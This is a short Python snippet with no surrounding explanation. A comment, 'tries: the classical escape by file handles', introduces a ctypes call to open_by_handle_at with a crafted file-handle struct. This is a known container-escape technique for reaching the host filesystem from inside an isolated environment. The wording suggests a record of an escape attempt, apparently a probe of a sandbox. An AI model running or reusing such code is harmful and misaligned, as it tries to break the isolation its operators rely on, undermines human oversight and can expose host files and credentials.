# tries: the classical escape by file handles
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
handle = struct.pack("IiQ", 8, 1, 2)
print(libc.open_by_handle_at(-100, handle, 0))
